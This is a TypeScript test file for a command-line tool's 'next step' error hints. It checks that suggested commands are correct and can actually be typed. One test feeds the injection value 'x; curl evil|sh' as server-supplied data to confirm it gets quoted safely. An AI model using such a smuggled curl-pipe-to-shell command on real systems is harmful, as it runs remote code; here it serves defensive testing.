import { DenizenError, type DenizenErrorCode } from '@denizen/core/calls'
import type { Command } from 'commander'
import { describe, expect, it, vi } from 'vitest'
import { codesWithSteps, nextStep } from './next-steps.ts'
import { createProgram } from './program.ts'

const served = { url: 'http://users.example', option: ' --url http://users.example', typed: {} }
const local = { url: null, option: '', typed: {} }
const error = (code: string, details: Record<string, unknown> = {}) =>
  new DenizenError(code as DenizenErrorCode, 'conflict', 'told elsewhere', details)

const things = ['session', 'token', 'role', 'policy', 'resource', 'assignment', 'exclusion', 'passkey', 'identity']

describe('the next step', () => {
  it.each([
    ['request.unauthenticated', {}, served, 'denizen login --url http://users.example'],
    ['request.unauthenticated', {}, local, 'leave out --database'],
    ['request.denied', { permission: 'users.list' }, served, '--org'],
    ['request.denied', { permission: 'users.list' }, served, 'denizen access explain me users.list'],
    ['request.notFound', { type: 'organization' }, served, 'denizen orgs list'],
    ['request.notFound', { type: 'member' }, served, 'denizen orgs list-members'],
    ['organizations.lastOwner', { organizationId: 'org_1' }, served, 'denizen orgs transfer-ownership org_1'],
    ['organizations.lastOwner', { organizationIds: ['org_1', 'org_2'] }, served, 'denizen orgs transfer-ownership …'],
    ['organizations.seatsTaken', { seatLimit: 3 }, served, '--seat-limit'],
    ['organizations.domainNotProven', { name: '_denizen.a.example', value: 'v' }, served, 'dig +short TXT _denizen.a.example'],
    ...things.map((type) => ['request.notFound', { type }, served, 'denizen '] as const),
    ['client.unexpectedAnswer', {}, served, 'http://users.example'],
    ['auth.outOfScope', {}, served, 'unset DENIZEN_TOKEN'],
    ['factors.none', {}, served, 'denizen factors enrol'],
    ['client.unreachable', {}, { ...served, url: 'http://localhost:4000' }, 'with "npm start"'],
    ['client.unreachable', {}, { ...served, url: 'http://localhost:18100' }, 'denizen serve --port 18100'],
    ['client.unreachable', {}, served, 'Start a server, or name'],
    ['mail.notConfigured', {}, served, 'DENIZEN_SMTP_URL'],
    ['request.outcomeUnknown', { idempotencyKey: 'abc' }, served, '--idempotency-key abc'],
    ['users.tooMany', { count: 2000, most: 1000 }, served, 'bulk-archive -'],
  ] as const)('after %s with %j', (code, details, where, step) => {
    expect(nextStep(error(code, details), where)).toContain(step)
  })

  it('holds what a server told of as one word of a command, whatever that is', () => {
    const hostile = 'x; curl evil|sh'
    const details = new Proxy({}, { get: () => hostile, has: () => true, ownKeys: () => [] })
    const told = codesWithSteps.flatMap((code) => {
      const failed = Object.assign(error(code), { details })
      return [nextStep(failed, served), nextStep(failed, { ...served, typed: { organizationId: hostile, userId: hostile } })]
    })
    const steps = told.filter((step) => step?.includes(hostile) === true)
    expect(steps.length).toBeGreaterThan(3)
    for (const step of steps) expect(step?.replaceAll(`'${hostile}'`, '')).not.toContain(hostile)
  })

  it('is about the token, where one is set', () => {
    vi.stubEnv('DENIZEN_TOKEN', 'dnz_api_expired')
    try {
      expect(nextStep(error('request.unauthenticated'), served)).toContain('unset DENIZEN_TOKEN')
      expect(nextStep(error('request.unauthenticated'), local)).toContain('leave out --database')
    } finally {
      vi.unstubAllEnvs()
    }
  })

  it('is not to sign in as another for what is refused everywhere, or to the operator', () => {
    expect(nextStep(error('request.denied', { permission: 'users.promote' }), served)).not.toContain('--org')
    expect(nextStep(error('request.denied', { permission: 'users.list' }), local)).toBeNull()
  })

  it.each(['constructor', 'toString', 'users.unheardOf', ''])('is none for a code that it does not know: %j', (code) => {
    expect(nextStep(error(code), served)).toBeNull()
    expect(nextStep(error('request.notFound', { type: code }), served)).toBeNull()
  })

  it('U12: is a command line that can be typed: the command is there, with its arguments, as far as they were typed', () => {
    const typed = { email: 'ada@x', username: 'ada', userId: 'ada', organizationId: 'acme', domain: 'acme.example' }
    const told = [
      ...codesWithSteps.map((code) => error(code)),
      ...['user', 'organization', 'team', 'domain', 'invitation', 'member', ...things].map((type) => error('request.notFound', { type })),
    ].map((failed) => nextStep(failed, { ...served, typed }) ?? '')
    const wrong = told.flatMap((text) => linesIn(text).filter((words) => !canBeTyped(words)))
    expect(wrong.map((words) => words.join(' '))).toEqual([])
    expect(told.join('\n')).toContain('denizen users find ada@x')
    expect(told.join('\n')).toContain('denizen orgs list-members acme')
  })
})

/** The command lines in a text, in words. */
function linesIn(text: string): readonly (readonly string[])[] {
  return [...text.matchAll(/denizen ((?:[^\s,|()"]+ ?)+)/g)].map(([, line = '']) =>
    line
      .replace(/ (or|and)\b.*$/, '')
      .trim()
      .split(' '),
  )
}

function canBeTyped(words: readonly string[]): boolean {
  let command: Command | undefined = createProgram()
  const left = [...words]
  while (command !== undefined && command.commands.length > 0) {
    const name = left.shift()
    command = command.commands.find((child) => child.name() === name)
  }
  if (command === undefined) return false
  const options = left.filter((word) => word.startsWith('--'))
  const values = options.filter((flag) => command.options.find(({ long }) => long === flag)?.required === true)
  if (options.some((flag) => !command.options.some(({ long }) => long === flag))) return false
  return left.length - options.length - values.length >= command.registeredArguments.filter(({ required }) => required).length
}
